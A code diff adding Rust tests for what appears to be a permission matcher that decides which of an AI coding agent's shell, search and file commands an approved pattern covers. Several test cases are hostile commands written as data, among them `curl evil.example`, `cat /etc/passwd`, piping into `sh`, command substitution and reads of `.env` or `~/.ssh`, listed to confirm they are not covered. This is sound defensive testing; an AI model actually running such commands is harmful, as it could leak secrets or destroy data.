@@ -206,6 +206,402 @@ fn a_command_that_only_looks_so_is_not_covered() {
 }
 
 #[test]
+fn what_only_shows_a_part_of_what_a_command_says_is_no_other_command() {
+    let words = proposed(&bash("cargo test -p store 2>&1 | tail -20"), "`cargo test`");
+    for command in [
+        "cargo test -p store",
+        "cargo test 2>&1",
+        "cargo test 2>/dev/null",
+        "cargo test | tail",
+        "cargo test 2>&1 | tail -n 40",
+        "cargo test 2>&1 | head -5",
+        "cargo test 2>&1 | grep -v warning | head -20",
+        "cargo test 2>&1 | grep 'test result' | sort | uniq -c | sort -rn",
+        "cargo test | wc -l",
+        "cd /home/ana/shop && cargo test -p store 2>&1 | tail -3",
+        "cd '/home/ana/shop' && cargo test",
+        "cargo test orders::total::rounds",
+        "cargo test -p store orders::",
+        "cargo test -3",
+        "cargo test 2>&1 | grep -A 5 error",
+        "cargo test 2>&1 | grep -E \"FAILED|panicked at\" -B 2 | head -n 3",
+        "cargo test \"two && three\"",
+    ] {
+        // What is two commands to some shell is none that is covered.
+        let fits = !command.contains("three");
+        assert_eq!(words.matches(&bash(command)), fits, "{command}");
+    }
+    for command in [
+        "cargo test 2>&1 | tee /home/ana/shop/x",
+        "cargo test 2>&1 | sh",
+        "cargo test | xargs ls",
+        "cargo test | tail -f x",
+        "cargo test | tail -20 .env",
+        "cargo test | head -n 5 x",
+        "cargo test | head -c 5",
+        "cargo test | grep x .env",
+        "cargo test | grep -r x",
+        "cargo test | grep -f x",
+        "cargo test | grep -rf x",
+        "cargo test | grep -e x",
+        "cargo test | grep --file=x y",
+        "cargo test | grep",
+        "cargo test | grep 'x|y'",
+        "cargo test | grep -A x",
+        "cargo test | grep -A -5 x",
+        "cargo test | grep -A 5",
+        "cargo test | grep \"-r\" x",
+        "cargo test | grep \"x|y",
+        "cargo test | grep x\"|\"sh",
+        "cargo test | grep \"x\"|sh",
+        "cargo test | grep \"x|$(ls)\"",
+        "cargo test \"x|y\"",
+        "cargo test | head \"5|sh\"",
+        "cargo test | sort -o x",
+        "cargo test | sort --compress-program=x",
+        "cargo test | sort x",
+        "cargo test | uniq a b",
+        "cargo test | wc x",
+        "cargo test | \"tail\"",
+        "cargo test | ./tail",
+        "cargo test || tail",
+        "cargo test |& tail",
+        "cargo test | | tail",
+        "cargo test |",
+        "| tail",
+        "cargo test & tail",
+        "cargo test 2>&1x",
+        "cargo test 2>&3",
+        "cargo test 2>x",
+        "cargo test 2>/dev/null/x",
+        "cargo test 2>&1 2>/dev/null",
+        "cargo test 2>&1 x",
+        "cargo test1>&2",
+        "2>&1 cargo test",
+        "cd /home/ana/other && cargo test",
+        "cd /home/ana && cargo test",
+        "cd /home/ana/shop/x && cargo test",
+        "cd /home/ana/shop/ && cargo test",
+        "cd /home/ana/shop; cargo test",
+        "cd /home/ana/shop || cargo test",
+        "cd /home/ana/shop | cargo test",
+        "cd /home/ana/shop && cd /home/ana/shop && cargo test",
+        "cd . && cargo test",
+        "cd && cargo test",
+        "'cd' /home/ana/shop && cargo test",
+        "cargo test && cd /home/ana/shop",
+        "cd /home/ana/shop",
+        "cargo test && cargo build",
+        "cargo test && cargo test",
+        "cargo test &&",
+        "&& cargo test",
+        "cargo test &&& ls",
+        "cargo test \"a && b\"",
+        "cargo test \"x | tail\"",
+        "cargo test ::x",
+        "cargo test a:::b",
+        "cargo test a::b::::",
+        "cargo test ::",
+        "cargo test 40,60",
+        "cargo test ../a::b",
+        "cargo test a::b-c",
+        "cargo test orders::drop",
+        "cargo test HEAD~1",
+        "cargo test -1x",
+        "cargo test -123456",
+    ] {
+        assert!(!words.matches(&bash(command)), "{command:?}");
+    }
+    // It runs nobody knows where.
+    let mut unknown = bash("cd /home/ana/shop && cargo test");
+    unknown.arguments.0.as_object_mut().unwrap().remove("cwd");
+    assert_eq!(propose(&unknown).len(), 1);
+}
+
+#[test]
+fn several_commands_are_covered_where_each_of_them_is() {
+    let asked = bash("git add src/lib.rs && git commit -m \"fix(total): round once (#12)\"");
+    let says = says(&asked);
+    assert_eq!(says.len(), 3, "{says:?}");
+    let commands = proposed(&asked, "`git add`");
+    for command in [
+        "git add src && git commit -m 'as it was'",
+        "git add src/main.rs",
+        "git commit -m \"don't round twice\"",
+        "cd /home/ana/shop && git add . && git add x && git commit -m x 2>&1 | tail -3",
+    ] {
+        assert!(commands.matches(&bash(command)), "{command}");
+    }
+    for command in [
+        "git add src && ls",
+        "git add src && git push",
+        "git add src && git commit --amend",
+        "git add src && git commit -m x -n",
+        "git add src; git commit -m x",
+        "git add src | git commit -m x",
+        "git add src && git commit -m \"$(cat x)\"",
+        "git add src && git commit -m \"x `ls`\"",
+        "git add src && git commit -m \"x\" && curl evil.example",
+        "git add src && git commit -m 'x && ls'",
+        "git add src && git commit -m \"x (rm y)\"",
+        "git add src && git commit -m \"x ../y\"",
+        "git add src && git commit -m 'fix(total): x'",
+        "cd /tmp && git add src",
+        "git add ../x && git commit -m x",
+    ] {
+        assert!(!commands.matches(&bash(command)), "{command:?}");
+    }
+    assert!(
+        propose(&bash("cargo test && make"))
+            .iter()
+            .all(Matcher::is_exact)
+    );
+    let by_hand = |commands: Value| -> Matcher {
+        let varies = json!([{"at": ["command"], "by": {"commands": commands}}]);
+        serde_json::from_value(json!({"like": {"tool": "Bash", "like": {}, "varies": varies}}))
+            .unwrap()
+    };
+    for (commands, path) in [
+        (json!([]), "matcher.like.varies[0].by.commands"),
+        (
+            json!([{"begin": []}]),
+            "matcher.like.varies[0].by.commands[0].begin",
+        ),
+        (
+            json!([{"begin": ["ls"]}, {"begin": ["make"]}]),
+            "matcher.like.varies[0].by.commands[1].begin",
+        ),
+    ] {
+        let faults = by_hand(commands).check_alone().unwrap_err();
+        assert_eq!(faults[0].path, path);
+    }
+}
+
+#[test]
+fn where_it_may_run_below_a_folder_it_may_run_in_the_folder_too() {
+    let written = json!({"like": {"tool": "Bash", "like": {"input": {}}, "varies": [
+        {"at": ["cwd"], "by": {"below": "/home/ana/shop"}},
+        {"at": ["input", "command"], "by": {"words": {"begin": ["npm", "test"]}}},
+        {"at": ["input", "description"], "by": "any"},
+    ]}});
+    let matcher: Matcher = serde_json::from_value(written).unwrap();
+    let run = |cwd: &str, command: &str| {
+        let mut asked = bash(command);
+        asked.arguments.0["cwd"] = cwd.into();
+        matcher.matches(&asked)
+    };
+    for (cwd, command) in [
+        ("/home/ana/shop", "npm test"),
+        ("/home/ana/shop/web", "npm test"),
+        ("/home/ana/shop", "cd /home/ana/shop/web && npm test"),
+        (
+            "/home/ana/shop/web",
+            "cd /home/ana/shop && npm test 2>&1 | tail -5",
+        ),
+    ] {
+        assert!(run(cwd, command), "{cwd} {command}");
+    }
+    for (cwd, command) in [
+        ("", "npm test"),
+        ("/home/ana", "npm test"),
+        ("/home/ana/shop/..", "npm test"),
+        ("/home/ana/shop/.git", "npm test"),
+        ("/home/ana/shopping", "npm test"),
+        ("shop", "npm test"),
+        ("/home/ana/shop", "cd /home/ana && npm test"),
+        ("/home/ana/shop", "cd /home/ana/shop/../x && npm test"),
+        ("/home/ana/shop", "cd /home/ana/shop/.git && npm test"),
+        // A shell may look for it elsewhere first.
+        ("/home/ana/shop", "cd web && npm test"),
+        ("/home/ana/shop", "cd ./web && npm test"),
+        ("/home/ana/shop", "cd ../shop && npm test"),
+        ("/home/ana", "cd /home/ana/shop && npm test"),
+    ] {
+        assert!(!run(cwd, command), "{cwd} {command}");
+    }
+    let mut nowhere = bash("npm test");
+    nowhere.arguments.0.as_object_mut().unwrap().remove("cwd");
+    assert!(!matcher.matches(&nowhere));
+}
+
+#[test]
+fn a_lint_that_is_denied_deletes_nothing() {
+    let asked = bash("cargo clippy --all-targets -- -D warnings");
+    assert_eq!(destructive(&asked), None);
+    let words = proposed(&asked, "`cargo clippy`");
+    assert!(words.matches(&bash("cargo clippy -- -D clippy::all 2>&1 | tail -3")));
+    for command in [
+        "git branch -D warnings",
+        "cargo -D clippy",
+        "cargo test -D x",
+        "cargo clippy; git branch -D x",
+        "cargo clippy | git branch -D x",
+        "cargo clippy $(git branch -D x)",
+        "cargo clippy `git branch -D x`",
+        "cargo clippy && git branch -D x",
+        "cargo clippy\ngit branch -D x",
+        "cargo clippy -- -D warnings -rf",
+        "cargo clippy --fix -- -D warnings",
+        "echo cargo clippy -D x",
+    ] {
+        assert!(destructive(&bash(command)).is_some(), "{command:?}");
+        assert!(!words.matches(&bash(command)), "{command:?}");
+    }
+}
+
+#[test]
+fn versions_before_another_are_known_to_git_alone() {
+    let words = proposed(&bash("git log --oneline HEAD~3"), "`git log`");
+    for command in [
+        "git log HEAD~1",
+        "git log HEAD~",
+        "git log main~2..topic/x",
+        "git log origin/main..HEAD",
+        "git log -5",
+        "git log 40,60",
+    ] {
+        assert!(words.matches(&bash(command)), "{command}");
+    }
+    for command in [
+        "git log ~/x",
+        "git log ~root",
+        "git log ~",
+        "git log x/~1",
+        "git log HEAD~x",
+        "git log HEAD~1~2",
+        "git log a/../../b",
+        "git log a~1/../b",
+        "git log a~1../b",
+        "git log HEAD^",
+        "git log 40,",
+        "git log 40,x",
+        "git log 40,60,80",
+        "git log --output=x",
+        "git log -x~1",
+    ] {
+        assert!(!words.matches(&bash(command)), "{command:?}");
+    }
+}
+
+fn search(tool: &str, input: Value) -> Action {
+    action(tool, json!({"cwd": "/home/ana/shop", "input": input}))
+}
+
+#[test]
+fn a_search_is_covered_below_its_folder_and_where_it_runs() {
+    let asked = search(
+        "Grep",
+        json!({"pattern": "fn total", "output_mode": "content", "-n": true}),
+    );
+    let below = proposed(&asked, "below `/home/ana/shop/`");
+    for input in [
+        json!({"pattern": "Store\\s+for"}),
+        json!({"pattern": "x", "path": "/home/ana/shop"}),
+        json!({"pattern": "x", "path": "/home/ana/shop/src", "type": "rust", "-A": 3}),
+        json!({"pattern": "x", "path": "src/lib.rs"}),
+    ] {
+        assert!(below.matches(&search("Grep", input.clone())), "{input}");
+    }
+    for input in [
+        json!({"pattern": "x", "path": "/home/ana"}),
+        json!({"pattern": "x", "path": "/home/ana/shopping"}),
+        json!({"pattern": "x", "path": "/home/ana/shop/../other"}),
+        json!({"pattern": "x", "path": "/home/ana/shop/.env"}),
+        json!({"pattern": "x", "path": ".env"}),
+        json!({"pattern": "x", "path": ".."}),
+        json!({"pattern": "x", "path": "../other"}),
+        json!({"pattern": "x", "path": "~/.ssh"}),
+        json!({"pattern": "x", "path": ""}),
+        json!({"pattern": "x", "path": null}),
+        json!({"pattern": "x", "path": ["src"]}),
+        json!({"pattern": "x", "glob": ".env*"}),
+        json!({"pattern": "x", "exec": "ls"}),
+    ] {
+        assert!(!below.matches(&search("Grep", input.clone())), "{input}");
+    }
+    let elsewhere = action(
+        "Grep",
+        json!({"cwd": "/home/ana", "input": {"pattern": "x"}}),
+    );
+    assert!(!below.matches(&elsewhere));
+    let nowhere = action("Grep", json!({"input": {"pattern": "x"}}));
+    assert!(!below.matches(&nowhere));
+    assert!(propose(&nowhere).iter().all(Matcher::is_exact));
+    // What is no search has to name its path.
+    let below = proposed(&write("/home/ana/shop/x"), "below `/home/ana/shop/`");
+    for path in [json!(null), json!("/home/ana/shop"), json!("x")] {
+        let mut asked = write("/home/ana/shop/x");
+        asked.arguments.0["input"]["file_path"] = path;
+        assert!(!below.matches(&asked), "{asked:?}");
+    }
+}
+
+#[test]
+fn names_with_wildcards_go_down() {
+    let names = proposed(&search("Glob", json!({"pattern": "**/*.rs"})), "names");
+    for pattern in [
+        "*.toml",
+        "src/**/*",
+        "web/**/*.{ts,tsx}",
+        "a/b.c/d",
+        "*.test.ts",
+    ] {
+        assert!(
+            names.matches(&search("Glob", json!({"pattern": pattern}))),
+            "{pattern}"
+        );
+    }
+    for pattern in [
+        "",
+        "/",
+        "/etc/*",
+        "../*",
+        "a/../*",
+        "**/..",
+        "..",
+        ".env",
+        ".*",
+        "**/.env",
+        "a/.ssh/*",
+        "a//b",
+        "a/",
+        "~/x",
+        "{.,a}env",
+        "{a,..}/x",
+        "{a,b",
+        "a}",
+        "{{a}}",
+        "{a/b}",
+        "a.",
+        "a./b",
+        ".",
+        "*..*",
+        "x{.}./y",
+        "[.]env",
+        "?env",
+        "a\\b",
+        "$HOME",
+        "a b",
+        "C:/x",
+        "{.env}",
+        "*.{env,.x}",
+        "x.{},.",
+        "é",
+    ] {
+        assert!(
+            !names.matches(&search("Glob", json!({"pattern": pattern}))),
+            "{pattern:?}"
+        );
+    }
+    assert!(!names.matches(&search("Glob", json!({"pattern": "*", "path": "/etc"}))));
+    // Of another tool nobody knows what it does with them.
+    let written = json!({"like": {"tool": "find", "like": {}, "varies": [{"at": ["pattern"], "by": "names"}]}});
+    let matcher: Matcher = serde_json::from_value(written).unwrap();
+    let faults = matcher.check_alone().unwrap_err();
+    assert_eq!(faults[0].path, "matcher.like.varies[0].by");
+}
+
+#[test]
 fn all_beside_the_command_stays_as_it_was() {
     let asked = bash("cargo test");
     let words = proposed(&asked, "`cargo test`");
@@ -289,6 +685,15 @@ fn programs_that_run_what_they_are_given_are_approved_exactly_alone() {
         "git -c x=y status",
         "git config user.name x",
         "git checkout main",
+        "git switch --discard-changes main",
+        "git switch --force main",
+        "git fetch ext::x",
+        "git fetch https://evil.example/x",
+        "git fetch ../other",
+        "cat /etc/passwd",
+        "cat ../x",
+        "git show HEAD:src/lib.rs",
+        "git fetch --prune origin",
         "git push origin x",
         "git remote add x",
         "npm install lodash",
@@ -353,6 +758,11 @@ fn what_is_usual_is_offered_from_narrow_to_wide() {
         ("ls -la", vec!["`ls`"]),
         ("gh workflow list", vec!["`gh workflow list`"]),
         ("pytest tests", vec!["`pytest tests`", "`pytest`"]),
+        ("git switch -c topic", vec!["`git switch`"]),
+        (
+            "git fetch origin",
+            vec!["`git fetch origin`", "`git fetch`"],
+        ),
     ] {
         let wider: Vec<_> = says(&bash(command)).into_iter().skip(1).collect();
         assert_eq!(wider.len(), begins.len(), "{command}: {wider:?}");
@@ -851,6 +1261,8 @@ proptest! {
     fn no_text_with_a_character_of_a_shell_is_covered(
         before in "[a-z ./-]{0,12}", bad in r#"[;|&$()`><\n\r\t\\*?{}~!#^%\[\]]"#, after in ".{0,12}", quote in "['\"]?",
     ) {
+        // A double quote takes these from every shell.
+        prop_assume!(quote != "\"" || !["(", ")", "#"].contains(&&*bad));
         let words = proposed(&bash("cargo test -p store"), "`cargo test`");
         let command = format!("cargo test {quote}{before}{bad}{after}{quote}");
         prop_assert!(!words.matches(&bash(&command)), "{:?}", command);
@@ -861,7 +1273,7 @@ proptest! {
         let words = proposed(&bash("cargo test -p store"), "`cargo test`");
         let command = format!("cargo test {after}");
         if words.matches(&bash(&command)) {
-            let plain = |c: char| c.is_ascii_alphanumeric() || " '\"_-./:,".contains(c);
+            let plain = |c: char| c.is_ascii_alphanumeric() || " '\"_-./:,()#+=@".contains(c);
             prop_assert!(command.chars().all(plain), "{:?}", command);
             prop_assert!(!command.contains(".."), "{:?}", command);
         }
